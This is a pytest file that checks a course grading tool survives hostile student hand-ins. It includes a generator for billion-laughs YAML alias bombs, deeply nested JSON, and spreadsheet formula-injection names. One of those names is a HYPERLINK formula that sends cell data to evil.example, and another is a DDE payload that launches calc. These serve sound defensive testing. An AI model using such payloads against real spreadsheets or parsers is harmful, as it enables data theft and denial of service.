"""Hostile and odd hand-ins (issue 13 §2): one bad file costs only the checks that read it, nothing a student
wrote is echoed back unbounded, student names cannot inject formulas or break the outputs, and the grader's
outputs are replaced as a whole or not at all."""

from __future__ import annotations

import csv
import time
import zipfile
from pathlib import Path

import pytest
from grading_builders import (
    edit_json,
    grade_one,
    lab9_handin,
    lost,
    make_perfect,
    rehash,
    write_answers,
)

import coursekit.grading.grade as grade
import coursekit.grading.report as report
from coursekit.grading.challenge import write_csv
from coursekit.grading.checks import Answers, load_spec
from coursekit.lessons.card_checks import split_front_matter

PREDICTION_CHECKS = {"predictions_ids": 6, "predictions_labels": 4, "predictions_confidence": 5}
SCORING_CHECKS = {"accuracy": 20, "f1_macro": 15}
METRICS_CHECKS = {"metrics_keys": 5, "metrics_match_predictions": 10, "best_model_claim": 5}
CARD_CHECKS = {"card_metadata": 15, "card_sections": 10, "card_failure_notes": 10}
CARD_NUMBER_CHECKS = {"card_numbers_metadata": 10, "card_numbers_table": 10}
MESSAGE_LIMIT = 2000  # characters of one feedback line; a student's data is never echoed unbounded


@pytest.fixture()
def answers(tmp_path) -> tuple[Path, dict[str, str]]:
    return write_answers(tmp_path)


def assert_bounded(result) -> None:
    """Every feedback line is short and there are few of them, whatever the hand-in held."""
    for c in result.checks:
        assert len(c.message) < MESSAGE_LIMIT and len(c.details) <= 50, c.check_id
        assert all(len(detail) < MESSAGE_LIMIT for detail in c.details), c.check_id


def graded_lab4(tmp_path: Path, answers, name: str, content: str | bytes) -> dict[str, float]:
    """Grade a perfect Lab 4 hand-in whose file ``name`` was replaced by ``content``; points lost per check."""
    answers_path, labels = answers
    folder = make_perfect(tmp_path / "student", labels)
    target = folder / name
    target.write_bytes(content) if isinstance(content, bytes) else target.write_text(content, encoding="utf-8")
    result = grade_one(folder, answers_path)
    assert result.status == "graded", result.notes
    assert_bounded(result)
    return lost(result)


def test_duplicate_csv_header_after_strip_costs_only_that_files_checks(tmp_path, answers):
    _, labels = answers
    rows = "".join(f"{i},{label},0.9,{i}\n" for i, label in labels.items())
    assert graded_lab4(tmp_path, answers, "predictions.csv", "id,label,confidence, id\n" + rows) == {
        **PREDICTION_CHECKS,
        **SCORING_CHECKS,
    }


def test_json_nested_200000_deep_costs_only_that_files_checks(tmp_path, answers):
    assert graded_lab4(tmp_path, answers, "metrics.json", "[" * 200_000) == METRICS_CHECKS


def test_json_integer_of_5000_digits_costs_only_that_files_checks(tmp_path, answers):
    metrics = '{"model": "x", "label_column": "Blankets_Creek", "accuracy": 0.85, "f1_macro": 0.85, '
    metrics += f'"test_size": {"9" * 5000}, "best_model": "minilm-l6"}}'
    assert graded_lab4(tmp_path, answers, "metrics.json", metrics) == METRICS_CHECKS


def test_zip_holding_a_file_and_a_folder_of_the_same_name_is_graded(tmp_path, answers):
    answers_path, labels = answers
    folder = make_perfect(tmp_path / "work" / "lab-4", labels)
    entry = tmp_path / "subs" / "zoe.zip"
    entry.parent.mkdir()
    with zipfile.ZipFile(entry, "w") as archive:
        for path in sorted(folder.iterdir()):
            archive.write(path, f"lab-4/{path.name}")
        archive.writestr("lab-4/notes.md/y", "a file below a file")
    result = grade_one(entry, answers_path)
    assert result.status == "graded", result.notes
    assert result.points >= 93  # at most the notes (7 points) are lost, never the whole hand-in


def label2id_list_value(config: dict) -> None:
    config["label2id"] = {"closed": [0], "open": 1}


def id2label_list_value(config: dict) -> None:
    config["id2label"] = {"0": ["closed"], "1": "open"}


@pytest.mark.parametrize("mutate", [label2id_list_value, id2label_list_value])
def test_label_map_with_a_list_value_costs_only_the_labels_check(tmp_path, mutate):
    folder = lab9_handin(tmp_path)
    edit_json(folder / "config.json", mutate)
    rehash(folder)
    result = grade.grade_entry(folder, load_spec(9), None)
    assert result.status == "graded", result.notes
    assert lost(result) == {"labels_match": 10}


def alias_bomb(levels: int, width: int = 10) -> str:
    """YAML whose aliases expand to width**levels strings; ``library_name`` points at the last level."""
    lines = ['a0: &a0 "lol"']
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * width)}]" for n in range(1, levels + 1)]
    return "\n".join(lines) + f"\nlibrary_name: *a{levels}\n"


def replace_card_metadata(folder: Path, metadata: str) -> None:
    """Swap the card's YAML block for ``metadata`` (the Markdown stays) and refresh the manifest."""
    card = folder / "README.md"
    body = card.read_text(encoding="utf-8").split("\n---\n", 1)[1]
    card.write_text(f"---\n{metadata}---\n{body}", encoding="utf-8")
    rehash(folder)


@pytest.mark.parametrize(
    "metadata",
    [
        pytest.param(alias_bomb(5), id="alias_bomb"),
        pytest.param("a: " + "[" * 20_000 + "]" * 20_000 + "\n", id="yaml_nested_20000_deep"),
    ],
)
def test_hostile_card_metadata_costs_only_the_metadata_checks_and_is_not_echoed(tmp_path, metadata):
    folder = lab9_handin(tmp_path)
    replace_card_metadata(folder, metadata)
    started = time.perf_counter()
    result = grade.grade_entry(folder, load_spec(9), None)
    assert time.perf_counter() - started < 5
    assert result.status == "graded", result.notes
    assert set(lost(result)) == {"card_metadata", "card_numbers_metadata"}
    assert_bounded(result)


def test_the_6kb_alias_bomb_of_the_issue_is_refused_at_once():
    """Nine levels of ten: 10**9 strings once expanded (>3 GB); refused before any alias is expanded."""
    text = f"---\n{alias_bomb(9)}---\n# Intended use\n"
    assert len(text) < 6_000
    started = time.perf_counter()
    front = split_front_matter(text)
    seconds = time.perf_counter() - started
    refused = front.metadata is None  # never let pytest print the metadata: its repr is the bomb
    problem = front.problem or ""
    assert seconds < 1 and refused and "alias" in problem and len(problem) < 300


# ------------------------------------------------------------------------------------------------
# Student names and the output folder
# ------------------------------------------------------------------------------------------------

# Folder names cannot hold "/", so the payloads are written without one.
FORMULA_NAMES = ['=HYPERLINK("https:\\evil.example?"&A1,"x")', "+cmd|' -C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB"]


def grade_class(tmp_path: Path, answers, names: list[str], out: Path | None = None) -> Path:
    """Grade a class of perfect hand-ins named ``names``; return the output folder."""
    answers_path, labels = answers
    subs = tmp_path / "subs"
    for name in names:
        make_perfect(subs / name, labels)
    out = out or tmp_path / "grades"
    assert grade.main([str(subs), "--lab", "4", "--answers", str(answers_path), "--out", str(out)]) == 0
    return out


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_formula_names_are_neutralised_in_gradebook_and_checks(tmp_path, answers):
    out = grade_class(tmp_path, answers, FORMULA_NAMES)
    for table in ("gradebook.csv", "checks.csv"):
        students = {row[0] for row in csv_cells(out / table)[1:]}
        assert students == {"'" + name for name in FORMULA_NAMES}, table


def test_253_character_name_and_newline_name_are_graded_with_one_summary_line_each(tmp_path, answers, capsys):
    names = ["a" * 253, "bob\nmallory", "carol"]
    out = grade_class(tmp_path, answers, names)
    rows = csv_cells(out / "gradebook.csv")[1:]
    assert sorted(row[0] for row in rows) == sorted(names) and all(row[4] == "graded" for row in rows)
    assert len(list((out / "feedback").glob("*.md"))) == 3
    summary = capsys.readouterr().out.splitlines()
    student_lines = [line for line in summary if line.rstrip().endswith("graded")]
    assert len(student_lines) == 3 and any("bob\\nmallory" in line for line in student_lines)


@pytest.mark.parametrize("where", ["a_file", "the_submissions_folder", "inside_submissions", "an_unrelated_folder"])
def test_out_that_cannot_be_replaced_is_refused(tmp_path, answers, where, capsys):
    answers_path, labels = answers
    subs = tmp_path / "subs"
    make_perfect(subs / "pat", labels)
    out = {
        "a_file": tmp_path / "grades.txt",
        "the_submissions_folder": subs,
        "inside_submissions": subs / "grades",
        "an_unrelated_folder": tmp_path / "documents",
    }[where]
    if where == "a_file":
        out.write_text("my notes", encoding="utf-8")
    if where == "an_unrelated_folder":
        out.mkdir()
        (out / "thesis.tex").write_text("precious", encoding="utf-8")
    with pytest.raises(SystemExit) as exit_info:
        grade.main([str(subs), "--lab", "4", "--answers", str(answers_path), "--out", str(out)])
    assert exit_info.value.code == 2
    assert capsys.readouterr().err.startswith("error: ")
    assert (subs / "pat" / "predictions.csv").is_file()
    assert where != "a_file" or out.read_text(encoding="utf-8") == "my notes"
    assert where != "an_unrelated_folder" or (out / "thesis.tex").read_text(encoding="utf-8") == "precious"


def test_rerun_with_fewer_students_leaves_no_stale_feedback(tmp_path, answers):
    out = grade_class(tmp_path, answers, ["ann", "ben"])
    (tmp_path / "subs" / "ben" / "predictions.csv").unlink()
    for path in sorted((tmp_path / "subs" / "ben").iterdir()):
        path.unlink()
    (tmp_path / "subs" / "ben").rmdir()
    grade_class(tmp_path, answers, [], out=out)
    assert sorted(p.name for p in (out / "feedback").iterdir()) == ["ann.md"]
    assert [row[0] for row in csv_cells(out / "gradebook.csv")[1:]] == ["ann"]


def test_a_crash_while_writing_leaves_the_previous_outputs_whole(tmp_path, answers, monkeypatch):
    out = grade_class(tmp_path, answers, ["ann", "ben"])
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    real = report.feedback_markdown
    calls = []

    def crash_on_second(result, lab, title):
        calls.append(result.student)
        if len(calls) == 2:
            raise KeyboardInterrupt  # a kill mid-write
        return real(result, lab, title)

    monkeypatch.setattr(report, "feedback_markdown", crash_on_second)
    make_perfect(tmp_path / "subs" / "cid", write_answers(tmp_path / "again")[1])
    answers_path = str(tmp_path / "secret" / "answers.csv")
    with pytest.raises(SystemExit):  # friendly_errors turns the interrupt into exit status 130
        grade.main([str(tmp_path / "subs"), "--lab", "4", "--answers", answers_path, "--out", str(out)])
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before


def test_id_check_is_linear_in_the_number_of_predictions(tmp_path):
    """20,000 answer ids and predictions: the old per-id ``set(ids)`` took ~20 s, linear code well under 3 s."""
    n = 20_000
    labels = {f"p{i:05d}": ("open", "closed")[i % 2] for i in range(n)}
    folder = tmp_path / "big"
    folder.mkdir()
    write_csv(folder / "predictions.csv", ["id", "label", "confidence"], [[i, v, 0.9] for i, v in labels.items()])
    spec = load_spec(4)
    started = time.perf_counter()
    result = grade.grade_entry(folder, spec, Answers(labels, ["closed", "open"]))
    assert time.perf_counter() - started < 3
    assert {c.check_id: c.points for c in result.checks}["predictions_ids"] == 6
